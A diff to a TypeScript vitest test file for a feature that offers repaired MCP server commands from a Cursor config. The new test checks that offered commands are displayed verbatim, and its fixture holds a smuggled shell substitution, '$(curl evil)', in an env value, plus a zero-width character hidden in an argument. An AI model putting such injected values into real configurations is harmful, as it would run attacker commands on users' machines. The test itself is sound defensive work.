@@ -3,8 +3,7 @@ import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { afterEach, beforeEach, expect, test } from 'vitest';
-import { type HealOffer, healOffers } from '../../../src-main/core/client-apps/heal-offers.ts';
-import { healSources } from '../../../src-main/core/client-apps/heal-sources.ts';
+import { type HealOffer, healOffers, healSources } from '../../../src-main/core/client-apps/heal-offers.ts';
 
 let home = '';
 
@@ -135,10 +134,12 @@ test('the same command with variables that are missing here is offered', async (
   ]);
 });
 
-test('secrets do not show in what is offered', async () => {
-  const secret = 'sk-live-0123456789abcdef';
-  await put('.cursor/mcp.json', servers({ command: 'good', args: ['--api-key', secret], env: { API_KEY: secret } }));
-  expect((await offers(broken))[0]?.endpoint).toBe('good --api-key ***');
+test('what is offered is shown as it is: a command that hides as a secret, and characters that hide, are seen', async () => {
+  const entry = { command: 'good', args: ['--api-key', 'evil-package\u200b'], env: { API_TOKEN: '$(curl evil)' } };
+  await put('.cursor/mcp.json', servers(entry));
+  expect((await offers(broken))[0]?.endpoint).toBe(
+    'good --api-key evil-package⟨U+200B⟩ with env {"API_TOKEN":"$(curl evil)"}',
+  );
 });
 
 test.each<[string, Record<string, unknown>, Record<string, unknown>]>([
